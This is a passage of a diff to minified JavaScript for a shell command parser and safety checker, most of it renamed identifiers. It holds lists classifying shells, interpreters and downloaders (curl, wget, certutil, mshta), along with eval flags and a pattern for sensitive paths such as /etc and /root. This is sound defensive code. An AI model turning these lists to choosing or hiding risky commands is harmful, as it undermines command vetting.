 const r=this.#n,i=this.#e.slice(r,n);this.#t.add(e,{start:r,end:n},{written:$t(i)}),s||this.#o(i,!0,r),this.#n=n}#y(){const e=this.#n,
 n=this.#e.indexOf(`
 `,e);this.#n=n<0?this.#e.length:n;const s=this.#e.slice(e,this.#n);Gn(s,e,!1,this.#t),this.#t.add("shell-comment",{start:e,
-end:this.#n},{written:$t(s)})}}const tO=/[A-Za-z_]/,nO=/[A-Za-z0-9_]/,sO=/[0-9@*#?$!-]/;function rO(t,e,n){const s=t.charAt(
+end:this.#n},{written:$t(s)})}}const Xx=/[A-Za-z_]/,Qx=/[A-Za-z0-9_]/,eO=/[0-9@*#?$!-]/;function tO(t,e,n){const s=t.charAt(
 e+1);if(s==="(")return{kind:t.charAt(e+2)==="("?"arithmetic-expansion":"command-substitution",end:ba(t,e+1,"(",")")};if(s===
 "{")return{kind:"variable-expansion",end:ba(t,e+1,"{","}")};if(s==="[")return{kind:"arithmetic-expansion",end:ba(t,e+1,"\
-[","]")};if(s==="'"||s==='"'){if(n)return;const r=t.indexOf(s,e+2);return{kind:"dollar-quote",end:r<0?t.length:r+1}}if(tO.
-test(s)){let r=e+2;for(;nO.test(t.charAt(r));)r+=1;return{kind:"variable-expansion",end:r}}if(sO.test(s)||s>"\x7F")return{
-kind:"variable-expansion",end:e+2}}function iO(t,e){for(let n=e+1;n<t.length;n+=1){const s=t.charAt(n);if(s==="\\")n+=1;else if(s===
+[","]")};if(s==="'"||s==='"'){if(n)return;const r=t.indexOf(s,e+2);return{kind:"dollar-quote",end:r<0?t.length:r+1}}if(Xx.
+test(s)){let r=e+2;for(;Qx.test(t.charAt(r));)r+=1;return{kind:"variable-expansion",end:r}}if(eO.test(s)||s>"\x7F")return{
+kind:"variable-expansion",end:e+2}}function nO(t,e){for(let n=e+1;n<t.length;n+=1){const s=t.charAt(n);if(s==="\\")n+=1;else if(s===
 "`")return n+1}return t.length}function ba(t,e,n,s){let r=0;for(let i=e;i<t.length;i+=1){const o=t.charAt(i);if(o===n)r+=
-1;else if(o===s&&(r-=1,r===0))return i+1}return t.length}function oO(t,e,n){const s=t.charAt(e);if(s==="("||s===")")return n.
+1;else if(o===s&&(r-=1,r===0))return i+1}return t.length}function sO(t,e,n){const s=t.charAt(e);if(s==="("||s===")")return n.
 add("shell-grammar",{start:e,end:e+1},{written:s}),e+1;const r=s==="<"||s===">",i=r?/[<>&|-]/:/[;&|]/;let o=e+1;for(;o-e<
 3&&i.test(t.charAt(o));)o+=1;const a=t.slice(e,o);return n.add(r?"shell-redirection":"shell-operator",{start:e,end:o},{operator:a}),
-o}const Gf=128*1024;function ln(t,e){const n=new Of;if(aO(t,n))return{words:[],assignments:[],refused:[],problems:n.inOrder()};
-const s={start:0,end:t.length};px(t,n),Ca(t,n);const r=Qx(t,n),{assignments:i,refused:o,count:a}=Ax(r,n);for(const l of r.
-slice(0,a))Hf(l,n);const c=cO(r.slice(a),e,n);c.length===0&&n.add("empty-command",s,{});for(const{value:l,span:u}of i)Ca(
+o}const Gf=128*1024;function ln(t,e){const n=new Of;if(rO(t,n))return{words:[],assignments:[],refused:[],problems:n.inOrder()};
+const s={start:0,end:t.length};Bx(t,n),Ca(t,n);const r=Vx(t,n),{assignments:i,refused:o,count:a}=Dx(r,n);for(const l of r.
+slice(0,a))Hf(l,n);const c=iO(r.slice(a),e,n);c.length===0&&n.add("empty-command",s,{});for(const{value:l,span:u}of i)Ca(
 l,n,u);for(const{text:l,span:u}of c)Ca(l,n,u);return{words:c,assignments:i,refused:o,problems:n.inOrder()}}function _a({
-problems:t}){return t.every(({severity:e})=>e==="warning")}function aO(t,e){if(Buffer.byteLength(t)<=Gf)return!1;const n={
-start:0,end:t.length};return e.add("command-too-long",n,{more:`${Gf} bytes`}),!0}function cO(t,e,n){const s=[];let r=0;for(const[
-i,o]of t.entries()){const a={start:o.start,end:o.end},c=o.parts.some(B=>B.quoted),l=Qr(o);Hf(o,n),lO(o,n),BO(o,i===0,n),
-lx(l,o,i===0,n);const u=Sx(o);if(u&&(r+=1),u&&r>Pf&&n.add("glob-unclear",a,{pattern:$t(l),reason:"too_many"}),!u||r>Pf){
-s.push({text:l,span:a,quoted:c});continue}const d=uO(i,s);for(const B of Mx({pattern:u,span:a,position:d},e,n))s.push({text:B,
-span:a,quoted:c})}return s}function uO(t,e){return t===0?"program":t===1&&e[0]?.text==="node"?"script":"argument"}function Hf(t,e){
+problems:t}){return t.every(({severity:e})=>e==="warning")}function rO(t,e){if(Buffer.byteLength(t)<=Gf)return!1;const n={
+start:0,end:t.length};return e.add("command-too-long",n,{more:`${Gf} bytes`}),!0}function iO(t,e,n){const s=[];let r=0;for(const[
+i,o]of t.entries()){const a={start:o.start,end:o.end},c=o.parts.some(B=>B.quoted),l=Xr(o);Hf(o,n),aO(o,n),uO(o,i===0,n),
+ax(l,o,i===0,n);const u=xx(o);if(u&&(r+=1),u&&r>Pf&&n.add("glob-unclear",a,{pattern:$t(l),reason:"too_many"}),!u||r>Pf){
+s.push({text:l,span:a,quoted:c});continue}const d=oO(i,s);for(const B of Lx({pattern:u,span:a,position:d},e,n))s.push({text:B,
+span:a,quoted:c})}return s}function oO(t,e){return t===0?"program":t===1&&e[0]?.text==="node"?"script":"argument"}function Hf(t,e){
 for(const[n,s]of t.parts.entries()){if(s.quoted||!s.text.includes("~"))continue;const r=s.text.search(n===0?/(?:^|[=:])~/:
-/[=:]~/);if(r<0)continue;const i=s.start+s.text.indexOf("~",r),o=$t(Qr(t));e.add("tilde-expansion",{start:i,end:i+1},{word:o});
-return}}function lO(t,e){let n=-1,s=!1;for(const r of t.parts)if(!(r.quoted||n<0&&!r.text.includes("{")))for(const{0:i,index:o}of r.
+/[=:]~/);if(r<0)continue;const i=s.start+s.text.indexOf("~",r),o=$t(Xr(t));e.add("tilde-expansion",{start:i,end:i+1},{word:o});
+return}}function aO(t,e){let n=-1,s=!1;for(const r of t.parts)if(!(r.quoted||n<0&&!r.text.includes("{")))for(const{0:i,index:o}of r.
 text.matchAll(/[{},]|\.\./g)){const a=r.start+o;if(i==="{")n<0&&(n=a);else if(i!=="}")s=n>=0;else if(s){const c={start:n,
-end:a+1};e.add("brace-expansion",c,{written:$t(Qr(t))});return}}}const dO=new Set(`if then else elif fi do done case esa\
+end:a+1};e.add("brace-expansion",c,{written:$t(Xr(t))});return}}}const cO=new Set(`if then else elif fi do done case esa\
 c while until for { } ! in
-   [[ ]] function select time coproc`.split(/\s+/));function BO(t,e,n){const s=bx(t);s!==void 0&&(s==="!"||e&&dO.has(s))&&
-n.add("shell-grammar",{start:t.start,end:t.end},{written:s})}const fO=/^-\w*c$|^--command$/,zf=/^-\w*[ep]\w*$|^--(?:eval|print)(?:=|$)|^eval$/,
-hO=/^-\w*[eE]/,pO=[["shell","sh bash dash ash zsh ksh mksh pdksh yash fish csh tcsh rc elvish nu xonsh",fO],["shell","pw\
+   [[ ]] function select time coproc`.split(/\s+/));function uO(t,e,n){const s=Cx(t);s!==void 0&&(s==="!"||e&&cO.has(s))&&
+n.add("shell-grammar",{start:t.start,end:t.end},{written:s})}const lO=/^-\w*c$|^--command$/,zf=/^-\w*[ep]\w*$|^--(?:eval|print)(?:=|$)|^eval$/,
+dO=/^-\w*[eE]/,BO=[["shell","sh bash dash ash zsh ksh mksh pdksh yash fish csh tcsh rc elvish nu xonsh",lO],["shell","pw\
 sh powershell",/^[-/](?:c|command|e|ec|en\w*)$/i],["shell","cmd",/^\/[ckr]/i],["shell","osascript",/^-e$/],["shell","eva\
 l iex invoke-expression","words"],["shell","source ."],["interpreter","node nodejs bun deno tsx ts-node jiti esno esmo b\
 abel-node",zf],["interpreter","vite-node swc-node sucrase-node",zf],["interpreter","python python2 python3 pythonw py py\
-py pypy3",/^-[A-Za-z]*c/],["interpreter","perl ruby lua luajit raku rscript julia elixir groovy scala",hO],["interpreter",
+py pypy3",/^-[A-Za-z]*c/],["interpreter","perl ruby lua luajit raku rscript julia elixir groovy scala",dO],["interpreter",
 "php",/^-r|^--run$/],["interpreter","java tclsh jshell ghci"],["wrapper","env ionice nice nohup setsid stdbuf timeout xv\
 fb-run",void 0,"as-is"],["wrapper","doas su sudo",void 0,"as-user"],["wrapper","cross-env dotenv env-cmd",void 0,"as-too\
 l"],["wrapper","command exec builtin busybox toybox time taskset chrt flock prlimit unshare chroot"],["wrapper","strace \
 ltrace gdb xargs parallel watch winpty"],["downloader","curl wget aria2c axel fetch http https xh httpie iwr irm invoke-\
 webrequest"],["downloader","invoke-restmethod start-bitstransfer bitsadmin certutil mshta"],["builder","go cargo make"],
 ["manager","yarn pnpm bunx pnpx corepack pip pip3 pipx uv uvx poetry composer"],["system","cat ls rm cp mv grep find sed\
- awk git docker touch echo cd test diff wc head tail"],["system","chmod true false exit vim"]],ni=new Map(pO.flatMap(([t,
-e,n,s])=>e.split(" ").map(r=>[r,{name:r,kind:t,...n&&{text:n},...s&&{wraps:s}}]))),mO=[...ni.keys()];function qs(t){return/^\.{1,2}$/.
-test(t)?t:t.replace(/^.*[\\/]/s,"").replace(/\.(?:exe|cmd|bat|com|ps1)$/i,"").toLowerCase()}function ut(t){const e=qs(t),
-n=ni.get(e);if(n!==void 0)return n;const s=ni.get(e.replace(/[-.]?\d[\d.]*w?$/,""));return s?.kind==="shell"||s?.kind===
-"interpreter"?s:void 0}function si(t){return ut(t)?.kind==="shell"}function ri(t){const e=ut(t)?.kind;return e==="shell"||
+ awk git docker touch echo cd test diff wc head tail"],["system","chmod true false exit vim"]],ti=new Map(BO.flatMap(([t,
+e,n,s])=>e.split(" ").map(r=>[r,{name:r,kind:t,...n&&{text:n},...s&&{wraps:s}}]))),fO=[...ti.keys()];function Ks(t){return/^\.{1,2}$/.
+test(t)?t:t.replace(/^.*[\\/]/s,"").replace(/\.(?:exe|cmd|bat|com|ps1)$/i,"").toLowerCase()}function ut(t){const e=Ks(t),
+n=ti.get(e);if(n!==void 0)return n;const s=ti.get(e.replace(/[-.]?\d[\d.]*w?$/,""));return s?.kind==="shell"||s?.kind===
+"interpreter"?s:void 0}function ni(t){return ut(t)?.kind==="shell"}function si(t){const e=ut(t)?.kind;return e==="shell"||
 e==="interpreter"}function Uf(t){if(t===".")return!1;if(/^np[mx]$/.test(t))return!0;const e=ut(t)?.kind;return e!==void 0&&
-e!=="system"&&e!=="downloader"}function gO(t){const[e="",...n]=t.trim().split(/\s+/);return Zf(e)&&n.some(s=>/^-|[./]|^[|&;<>]+$/.
+e!=="system"&&e!=="downloader"}function hO(t){const[e="",...n]=t.trim().split(/\s+/);return Zf(e)&&n.some(s=>/^-|[./]|^[|&;<>]+$/.
 test(s))}function Jf(t){return/&&|\|\||\$\(|`/.test(t)?!0:t.split(/;\s|\s\|\s/).some(e=>{const[n="",...s]=e.trim().split(
-/\s+/);return s.length>0&&Zf(n)})}function Zf(t){return/^np[mx]$/.test(t)||ni.has(t)}const Ea=Zs({harmless:`
+/\s+/);return s.length>0&&Zf(n)})}function Zf(t){return/^np[mx]$/.test(t)||ti.has(t)}const Ea=Wr({harmless:`
     addons async-context-frame debug-arraybuffer-allocations deprecation disable-proto=
     disable-sigusr1 disable-warning= disallow-code-generation-from-strings dns-result-order=
     enable-fips enable-source-maps experimental-abortcontroller experimental-detect-module
@@ -4125,304 +4125,295 @@ ers
     watch watch-path=
   `,"writes-files":`
     cpu-prof heap-prof prof report-on-fatalerror test-update-snapshots
-  `}),CO=new Map(`
+  `}),pO=new Map(`
   -c=check -C=conditions -e=eval -h=help -i=interactive -p=print -pe=print -r=require -v=version
   debug-port=inspect-port enable-network-family-autoselection=network-family-autoselection
   experimental-default-config-file=experimental-config-file experimental-strip-types=strip-types
   experimental-test-isolation=test-isolation loader=experimental-loader
   security-reverts=security-revert
-  `.trim().split(/\s+/).map(t=>t.split("="))),yO=new Set("dot junit lcov spec tap".split(" ")),Kf=new Set(`
+  `.trim().split(/\s+/).map(t=>t.split("="))),mO=new Set("dot junit lcov spec tap".split(" ")),Kf=new Set(`
   @swc-node/register dotenv/config esbuild-register source-map-support/register ts-node/esm
   ts-node/register ts-node/register/transpile-only tsx tsx/cjs tsx/esm
-  `.match(/\S+/g)),wO=new Set(`
+  `.match(/\S+/g)),gO=new Set(`
   @babel/polyfill @babel/register @istanbuljs/esm-loader-hook @swc/register core-js/stable esm
   reflect-metadata regenerator-runtime/runtime ts-node ts-node/register/files tsconfig-paths/register
-  `.match(/\S+/g));function ii(t,e){const n=[],s=t.toReversed();let r;const i=o=>{for(const a of s.reverse())n.push({kind:"\
+  `.match(/\S+/g));function Wf(t,e){const n=[],s=t.toReversed();let r;const i=o=>{for(const a of s.reverse())n.push({kind:"\
 operand",word:a});return{tokens:n,separator:o,rest:void 0}};for(let o=s.pop();o!==void 0;o=s.pop()){if(e.separator.test(
 o.text))return i(o);const a=!ka(o,e);if(!a&&r!==void 0){n.push({...r,word:o,next:o});continue}const{written:c,attached:l}=a?
-bO(o.text,e):{written:o.text,attached:void 0},u=a?e.expand(c,l):"operand";if(u==="operand"){if(n.push({kind:"operand",word:o}),
+CO(o.text,e):{written:o.text,attached:void 0},u=a?e.expand(c,l):"operand";if(u==="operand"){if(n.push({kind:"operand",word:o}),
 e.flags==="first")return i();continue}if(r=void 0,u!==void 0&&"instead"in u){const{span:g,quoted:C}=o;s.push(...u.instead.
 map(y=>({text:y,span:g,quoted:C})).reverse());continue}const d=s.at(-1),B=u===void 0?e.unknown:u.at(-1)?.takes,f=l===void 0&&
-_O(B,d,e),h={word:o,written:c,attached:l,next:d,consumes:f};u===void 0&&n.push({kind:"unknown",...h});for(const[g,C]of u?.
+yO(B,d,e),h={word:o,written:c,attached:l,next:d,consumes:f};u===void 0&&n.push({kind:"unknown",...h});for(const[g,C]of u?.
 entries()??[]){const y=g===(u?.length??0)-1,b={word:o,written:c,attached:void 0,next:void 0,consumes:!1};n.push({kind:"f\
 lag",part:C,...y?h:b})}if(B==="rest")return{tokens:n,separator:void 0,rest:s.reverse()};const m=n.at(-1);B==="operands"&&
 f&&m?.kind==="flag"&&(r=m),f&&!(B==="both"&&d&&!ka(d,e))&&s.pop()}return i()}function ka({text:t},{dash:e}){return!t.startsWith(
-"-")||t==="-"&&e==="operand"}function bO(t,{equals:e}){return e==="all"||e==="long"&&t.startsWith("--")?va(t):{written:t,
-attached:void 0}}function _O(t,e,n){if(e===void 0)return!1;switch(t){case"always":case"both":return!0;case"unless-dash":
-return!e.text.startsWith("-");case"true-or-false":return qf(e.text);case"operand":case"operands":return ka(e,n);default:
-return!1}}function Wf({word:{span:t},attached:e,next:n,consumes:s}){return s&&n?{value:n.text,span:{start:t.start,end:n.
-span.end}}:e===void 0?{span:t}:{value:e,span:t}}function qf(t){return t==="true"||t==="false"}function va(t){const e=t.indexOf(
-"=");return e<0?{written:t,attached:void 0}:{written:t.slice(0,e),attached:t.slice(e+1)}}const Da={families:Vr,start:()=>({
-launched:[],problems:[]}),tool:()=>({problems:[]})};function hs(t){return t==="node"||t==="npm"||t==="npx"}function Vs(t){
+"-")||t==="-"&&e==="operand"}function CO(t,{equals:e}){return e==="all"||e==="long"&&t.startsWith("--")?va(t):{written:t,
+attached:void 0}}function yO(t,e,n){if(e===void 0)return!1;switch(t){case"always":case"both":return!0;case"unless-dash":
+return!e.text.startsWith("-");case"true-or-false":return bO(e.text);case"operand":case"operands":return ka(e,n);default:
+return!1}}function wO({word:{span:t},attached:e,next:n,consumes:s}){return s&&n?{value:n.text,span:{start:t.start,end:n.
+span.end}}:e===void 0?{span:t}:{value:e,span:t}}function bO(t){return t==="true"||t==="false"}function va(t){const e=t.indexOf(
+"=");return e<0?{written:t,attached:void 0}:{written:t.slice(0,e),attached:t.slice(e+1)}}const Da={families:qr,start:()=>({
+launched:[],problems:[]}),tool:()=>({problems:[]})};function hs(t){return t==="node"||t==="npm"||t==="npx"}function Ws(t){
 return/^(?:@[a-z0-9~-][a-z0-9._~-]*\/)?[a-z0-9~][a-z0-9._~-]*$/i.test(t)}function Xe(t,e,{text:n,span:s}){return be(t,s,
-{program:e,flag:n})}function zn(t,e,n){const{written:s,span:r,value:i}=n,o={program:e,flag:s};return be(t,r,i===void 0?o:
-{...o,value:i})}function Vf(t,e){return e?"it takes a value, so it has no `--no-` form":t===void 0||t===""?"its value is\
- missing":t.startsWith("-")?"its value begins with a dash":void 0}const EO=new Set(["--version","-v","-V","--help","-h"]);
-function Yf(t){const[e]=t;return t.length===1&&e!==void 0&&EO.has(e.text)?e:void 0}function oi(t,e){return Xe("only-prin\
-ts",t,e)}function Un(t){return/^\s*[{[]|^[A-Za-z][A-Za-z0-9+.-]*:/.test(t)||t.split(",").some(e=>xe(e)===void 0)}function Jn(t){
+{program:e,flag:n})}function ri(t,e,n){const{written:s,span:r,value:i}=n,o={program:e,flag:s};return be(t,r,i===void 0?o:
+{...o,value:i})}function qf(t,e){return e?"it takes a value, so it has no `--no-` form":t===void 0||t===""?"its value is\
+ missing":t.startsWith("-")?"its value begins with a dash":void 0}const _O=new Set(["--version","-v","-V","--help","-h"]);
+function Vf(t){const[e]=t;return t.length===1&&e!==void 0&&_O.has(e.text)?e:void 0}function ii(t,e){return Xe("only-prin\
+ts",t,e)}function zn(t){return/^\s*[{[]|^[A-Za-z][A-Za-z0-9+.-]*:/.test(t)||t.split(",").some(e=>xe(e)===void 0)}function Un(t){
 return/(?:^|[=,\s])(?:data|file):/i.test(t)?!0:!t.includes("..")||/^(?:[\\/]|[A-Za-z]:)/.test(t)?!1:t.split(/[=,:"']/).some(
-e=>e.includes("..")&&!vO(e))}function ai(t){return t.split(/[=,:"']/).some(e=>kO.test(e))}const kO=/^(?:~|\/(?!dev\/(?:null|stdout|stderr)$)(?:boot|dev|etc|home|private|proc|root|sys|tmp|Users|usr|var|Volumes))(?:\/|$)/;
-function vO(t){return/^[\\/]/.test(t)||xe(t)!==void 0}const DO=new Set(["","-","/dev/stdin","/dev/fd/0","/proc/self/fd/0"]);
-function Xf(t){const e=[],n=[],s=[],r=new Set;for(const B of ii(t,xO).tokens){if(B.kind==="operand"){s.push(B.word);continue}
+e=>e.includes("..")&&!kO(e))}function oi(t){return t.split(/[=,:"']/).some(e=>EO.test(e))}const EO=/^(?:~|\/(?!dev\/(?:null|stdout|stderr)$)(?:boot|dev|etc|home|private|proc|root|sys|tmp|Users|usr|var|Volumes))(?:\/|$)/;
+function kO(t){return/^[\\/]/.test(t)||xe(t)!==void 0}const vO=new Set(["","-","/dev/stdin","/dev/fd/0","/proc/self/fd/0"]);
+function Yf(t){const e=[],n=[],s=[],r=new Set;for(const B of Wf(t,DO).tokens){if(B.kind==="operand"){s.push(B.word);continue}
 if(B.kind==="unknown"){const y={program:"node",flag:B.written};n.push(be("unknown-flag",B.word.span,y));continue}const{spec:f,
-negated:h}=B.part,m=AO(B);e.push(m);const g=SO(f,h,m.value);if(g!==void 0&&n.push(TO(m,g)),h)continue;r.add(f.kind);const C=$O(
-f,m);C!==void 0&&n.push(zn(C,"node",m))}const i=ci({flags:e}),o=i?s.length:r.has("evaluates")?0:1,a=s.slice(0,o),c=s.slice(
-o),l=i||r.has("only-prints")||r.has("evaluates"),u=RO(a,i,t);u!==void 0&&!(l&&a.length===0)&&n.push(u);const d=Yf(c);return d!==
-void 0&&n.push(oi("node",d)),{invocation:{program:"node",flags:e,operands:a,passthrough:c},problems:n}}const xO={flags:"\
+negated:h}=B.part,m=OO(B);e.push(m);const g=AO(f,h,m.value);if(g!==void 0&&n.push(SO(m,g)),h)continue;r.add(f.kind);const C=IO(
+f,m);C!==void 0&&n.push(ri(C,"node",m))}const i=ai({flags:e}),o=i?s.length:r.has("evaluates")?0:1,a=s.slice(0,o),c=s.slice(
+o),l=i||r.has("only-prints")||r.has("evaluates"),u=$O(a,i,t);u!==void 0&&!(l&&a.length===0)&&n.push(u);const d=Vf(c);return d!==
+void 0&&n.push(ii("node",d)),{invocation:{program:"node",flags:e,operands:a,passthrough:c},problems:n}}const DO={flags:"\
 first",dash:"operand",separator:/^--$/,equals:"long",unknown:"never",expand:t=>{const e=t.startsWith("--"),n=e?t.slice(2).
-replaceAll("_","-"):t,s=n.startsWith("no-")&&!Ea.has(n),r=s?n.slice(3):n,i=Ea.get(CO.get(r)??(e?r:""));return i&&[{spec:i,
-negated:s,takes:s?"never":OO(i)}]}};function OO({name:t,arity:e}){return t==="print"?"unless-dash":e==="value"?"always":
-"never"}function AO(t){const{spec:e,negated:n}=t.part;return{name:`--${n?"no-":""}${e.name}`,written:t.written,...Wf(t)}}
-function SO({name:t,arity:e},n,s){if(e==="value")return Vf(s,n);if(n)return s===void 0?void 0:"a `--no-` flag takes no v\
+replaceAll("_","-"):t,s=n.startsWith("no-")&&!Ea.has(n),r=s?n.slice(3):n,i=Ea.get(pO.get(r)??(e?r:""));return i&&[{spec:i,
+negated:s,takes:s?"never":xO(i)}]}};function xO({name:t,arity:e}){return t==="print"?"unless-dash":e==="value"?"always":
+"never"}function OO(t){const{spec:e,negated:n}=t.part;return{name:`--${n?"no-":""}${e.name}`,written:t.written,...wO(t)}}
+function AO({name:t,arity:e},n,s){if(e==="value")return qf(s,n);if(n)return s===void 0?void 0:"a `--no-` flag takes no v\
 alue";if(e!=="none")return s?void 0:"its value is missing";const r=t==="print"||/^(?:inspect|debug$|debug-brk$)/.test(t);
-return s===void 0||r?void 0:"it takes no value"}function TO(t,e){return be("flag-value",t.span,{program:"node",flag:t.written,
-fault:e})}function ci({flags:t}){return t.findLast(({name:e})=>e==="--test"||e==="--no-test")?.name==="--test"}const IO=/\.(?:info|lcov|log|tap|txt|xml)$/;
-function $O(t,{value:e=""}){switch(t.kind){case"harmless":return;case"reports-tests":return yO.has(e)?void 0:"outside-co\
+return s===void 0||r?void 0:"it takes no value"}function SO(t,e){return be("flag-value",t.span,{program:"node",flag:t.written,
+fault:e})}function ai({flags:t}){return t.findLast(({name:e})=>e==="--test"||e==="--no-test")?.name==="--test"}const TO=/\.(?:info|lcov|log|tap|txt|xml)$/;
+function IO(t,{value:e=""}){switch(t.kind){case"harmless":return;case"reports-tests":return mO.has(e)?void 0:"outside-co\
 de";case"tolerates-rejections":return e==="warn"||e==="none"?"weakens":void 0;case"writes-report":return e==="stdout"||e===
-"stderr"?void 0:IO.test(e)&&!Un(e)?"tool-writes":"writes-files";case"evaluates":return"outside-code";case"preloads":return Kf.
-has(e)?"tool-runs-file":"outside-code";default:return t.kind}}function RO(t,e,n){const[s]=t;if(s===void 0){const o=n.at(
--1)?.span.end??0;return e?void 0:be("reads-stdin",{start:0,end:o},{program:"node",flag:""})}const{text:r,span:i}=s;if(DO.
+"stderr"?void 0:TO.test(e)&&!zn(e)?"tool-writes":"writes-files";case"evaluates":return"outside-code";case"preloads":return Kf.
+has(e)?"tool-runs-file":"outside-code";default:return t.kind}}function $O(t,e,n){const[s]=t;if(s===void 0){const o=n.at(
+-1)?.span.end??0;return e?void 0:be("reads-stdin",{start:0,end:o},{program:"node",flag:""})}const{text:r,span:i}=s;if(vO.
 has(r))return be("reads-stdin",i,{program:"node",flag:r});if(r.startsWith("-"))return be("outside-code",i,{program:"node",
-flag:`-- ${r}`});if(r==="inspect"||!e&&r==="debug")return be("outside-code",i,{program:"node",flag:r})}const NO=Zs({harmless:`\
+flag:`-- ${r}`});if(r==="inspect"||!e&&r==="debug")return be("outside-code",i,{program:"node",flag:r})}const Xf=gf({text:`\
 
-    color? foreground-scripts json loglevel= long offline parseable prefer-offline prefer-online
-    progress unicode update-notifier
-  `,"selects-scripts":`
-    if-present ignore-scripts include-workspace-root prefix= workspace= workspaces?
-  `,"only-prints":"usage version versions","of-tests":"bail? coverage? runInBand?","outside-code":"call= global globalco\
-nfig= node-options= registry= script-shell= shell= userconfig=","uses-network":"package= yes?"}),xa=new Map([...NO].map(
-([t,{name:e,arity:n,kind:s}])=>[t,{name:e,arity:n==="optional"?"loose":n==="value"?"value":"none",effect:s}])),FO=`
-  ?=usage C=prefix H=usage c=call d=loglevel:info dd=loglevel:verbose ddd=loglevel:silly g=global
-  h=usage help=usage iwr=include-workspace-root l=long no=no-yes p=parseable
-  porcelain=parseable q=loglevel:warn quiet=loglevel:warn reg=registry s=loglevel:silent
-  silent=loglevel:silent v=version verbose=loglevel:verbose w=workspace ws=workspaces y=yes
-`,Qf=new Map(FO.trim().split(/\s+/).map(t=>t.split(/[=:]/)).map(([t="",e,...n])=>[t,[`--${e}`,...n]])),eh=Zs({"runs-scri\
-pt":"test,t,tst run,run-script start stop","runs-tool":"exec,x","only-prints":"explain,why help ls,list,la,ll prefix que\
-ry root sbom","uses-network":"ci,clean-install,ic create,init dedupe install,add,i,in install-ci-test,cit install-test,i\
-t link,ln prune rebuild,rb uninstall,r,remove,rm,un,unlink update,u,up,upgrade access adduser,add-user deprecate dist-ta\
-g login logout owner profile publish team token unpublish audit diff docs doctor outdated ping search,s view,info,show,v\
- whoami","writes-files":"cache pack pkg shrinkwrap version","outside-code":"config,c get set"});function LO(t,e){const n=[],
-s=[],r=[];for(const i of ii(t,PO).tokens)if(i.kind==="operand")s.push(i.word);else if(i.kind==="unknown"){const o={program:e,
-flag:i.written};r.push(be("unknown-flag",i.word.span,o))}else{const{flag:o,fault:a}=MO(i);if(n.push(o),a!==void 0){const c={
-program:"npm",flag:i.written,fault:a};r.push(be("flag-value",i.word.span,c))}}return{flags:n,remain:s,problems:r}}const PO={
-flags:"anywhere",dash:"operand",separator:/^-{2,}$/,equals:"all",unknown:"never",expand:t=>{const e=t.replace(/^-+/,""),
-n=th(e)??jO(e)??nh(e);return n&&[n]}};function th(t){const e=xa.get(t);return e&&{spec:e,negated:!1,takes:e.arity==="val\
-ue"?"always":"true-or-false"}}function nh(t){const e=t.startsWith("no-")?xa.get(t.slice(3)):void 0;return e&&{spec:e,negated:!0,
-takes:e.arity==="value"?"never":"true-or-false"}}function jO(t){const[e="",n]=Qf.get(t)??[],s=th(e.slice(2))??nh(e.slice(
-2));return s&&(n===void 0?s:{...s,fixed:n,takes:"never"})}function MO(t){const{word:e,written:n,attached:s,next:r,consumes:i}=t,
-{spec:o,negated:a,fixed:c}=t.part,l={name:`--${o.name}`,written:n,span:e.span,spec:o,negated:a};if(c!==void 0){const h=s===
-void 0?void 0:"it takes no value";return{flag:{...l,value:c},fault:h}}if(o.arity==="value"){const h={...l,...Wf(t)};return{
-flag:h,fault:Vf(h.value,a)}}const u=i?r?.text:s,d={...l,negated:u==="false"?!a:a};if(s!==void 0&&!qf(s))return{flag:d,fault:"\
-npm reads its value as a separate word"};const B=o.effect==="of-tests"?/^[^-]/:/^(?:null|always)$/,f=o.arity==="loose"&&
-B.test(r?.text??"");return{flag:d,fault:f?"npm reads the next word as its value":void 0}}function sh(t,e=Da){return rh("\
-npm",t,t,e)}function rh(t,e,n,s){const{flags:r,remain:i,problems:o}=LO(e,t),[a,...c]=i,l=a&&eh.get(a.text),u=l?.kind==="\
-runs-tool",d=[...r.flatMap(m=>UO(t,m,u)),...o],B={program:t,flags:r};if(a===void 0)return r.some(ih)||d.push(oh(t,n)),{invocation:{
-...B,operands:[],passthrough:[]},problems:d};if(l===void 0){const m=[...eh].find(([C])=>C.startsWith(a.text))?.[1].name??
-"",g={program:"npm",subcommand:a.text,meant:m};return d.unshift(be("unknown-subcommand",a.span,g)),{invocation:{...B,operands:c,
-passthrough:[]},problems:d}}const f={...B,subcommand:l.name},h=GO(l,{word:a,rest:c},f,s);return{invocation:h.invocation,
-problems:[...h.problems,...d]}}function GO({name:t,kind:e},n,s,r){return e==="runs-script"?HO(t,n,s):e==="runs-tool"?zO(
-n,s,r):{invocation:{...s,operands:n.rest,passthrough:[]},problems:[Xe(e,s.program,{text:t,span:n.word.span})]}}function HO(t,{
-word:e,rest:n},s){const r=t==="run"?n.slice(0,1):[e],i=t==="run"?n.slice(1):n,[o]=r,a=[];o===void 0?a.push(oi("npm",{...e,
-text:"run"})):o.text==="env"&&a.push({...oi("npm",{...o,text:"run env"}),severity:"error"});const c=Yf(i);return c!==void 0&&
-a.push(oi("npm",c)),{invocation:{...s,operands:r,passthrough:i},problems:a}}function zO({word:t,rest:e},n,s){const[r,...i]=e;
-if(r===void 0){const l=n.flags.some(ih)?[]:[oh(n.program,[t])];return{invocation:{...n,operands:[],passthrough:[]},problems:l}}
-const o={...n,operands:[r],passthrough:i};if(!Vs(r.text))return{invocation:o,problems:[Xe("uses-network",n.program,r)]};
-const{problems:a,...c}=s.tool(r,i);return{invocation:{...o,...c},problems:a}}function ih({spec:{effect:t},negated:e}){return!e&&
-(t==="only-prints"||t==="outside-code")}function UO(t,e,n){const{effect:s,name:r}=e.spec;switch(s){case"harmless":return[];case"\
-selects-scripts":return r==="if-present"?[]:r==="ignore-scripts"?e.negated?[]:[zn("skips-tests",t,e)]:n?[zn("outside-cod\
-e",t,e)]:[];case"of-tests":{const i=zn("unknown-flag",t,e);return[n?i:{...i,severity:"warning"}]}case"uses-network":return e.
-negated?[]:[zn(s,t,e)];default:return[zn(e.negated?"unknown-flag":s,t,e)]}}function oh(t,e){const n=e[0]?.span.start??0,
-s=e.at(-1)?.span.end??0;return be("nothing-to-run",{start:n,end:s},{program:t})}function JO(t,e=Da){const{tokens:n,separator:s}=ii(
-t,qO),r=[{text:"exec",span:t[0]?.span??{start:0,end:0},quoted:!1}],i=[];for(const a of n){if(a.kind==="operand"&&i.push(
-a.word),a.kind!=="flag")continue;const{word:c,written:l,attached:u,consumes:d,next:B}=a,f=ZO.get(ah(l)),h=u===void 0?f:`${f}\
-=${u}`;r.push(f===void 0?c:{...c,text:h??""}),d&&B&&r.push(B)}const[o]=i;return s!==void 0?r.push(s):o!==void 0&&r.push(
